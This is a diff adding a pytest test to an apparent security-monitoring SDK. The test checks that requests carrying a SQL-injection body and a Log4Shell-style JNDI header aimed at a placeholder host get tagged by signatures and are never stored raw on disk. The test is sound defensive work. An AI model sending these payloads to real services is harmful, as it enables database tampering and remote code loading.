@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import signal
 import socket
 import subprocess
@@ -13,9 +14,13 @@ from typing import Any
 
 import pytest
 from tests.sdk.receiving import MakeClient, event, numbers
+from tests.sdk.requests import seen
 from tests.siem.conftest import Tocsin
+from tests.siem.stored import everything
 
 from tocsin.event import Kind
+from tocsin.sdk.options import Options
+from tocsin.sdk.reading.reader import Reader
 
 
 class Server(Tocsin):
@@ -96,3 +101,46 @@ def test_a_revoked_key_keeps_everything_until_there_is_a_good_one(
     heir = client(url=f"http://127.0.0.1:{server.port}", key=key)
     heir.start()
     server.until(lambda: sorted(numbers(server.events())) == list(range(30)))
+
+
+def test_no_probe_is_found_on_any_disk(server: Server, client: MakeClient, spool: Path) -> None:
+    marker = "zebrafinch"
+    attack = {"note": f"{marker}' OR '1'='1"}
+    header = {"x-api-version": f"${{jndi:ldap://{marker}.example/a}}"}
+
+    def attacked() -> None:
+        for n in range(50):
+            made.take(seen(f"POST /v1/notes/{n}", 200, {"ok": True}, body=attack, headers=header))
+
+    def making() -> Any:
+        address = f"http://127.0.0.1:{server.port}"
+        return client(Reader(Options(hash_key="x")), url=address, key=key, farewell=0.5)
+
+    key = server.token("orders-app")
+    made = making()
+    attacked()
+    assert made.flush(20)
+    server.stop()
+    attacked()  # with nobody there to take it: it waits on the disk
+    made.close()
+    waiting = [path.read_bytes() for path in spool.rglob("*") if path.is_file()]
+    opened = b"".join(gzip.decompress(one) for one in waiting if one[:2] == b"\x1f\x8b")
+    assert opened.count(b"/v1/notes/") >= 50
+    assert marker.encode() not in opened + b"".join(waiting)
+
+    server.start()
+    heir = making()
+    heir.start()
+    found = server.until(
+        lambda: (rows := server.rows("search", "kind:request", "--limit", "0"))[99:] and rows
+    )
+    # It was looked at where it got there, and only there.
+    tags = [" ".join(one.get("tags", [])) for one in found]
+    assert sum("sig.sqli.body" in one and "sig.jndi.header" in one for one in tags) >= 50
+    heir.close()
+    server.stop()
+    kept = everything(server)
+    assert kept.count("/v1/notes/49") == 4  # twice, as path and as route
+    assert marker not in kept
+    raw = [path.read_bytes() for path in server.home.rglob("*") if path.is_file()]
+    assert marker.encode() not in b"".join(raw)
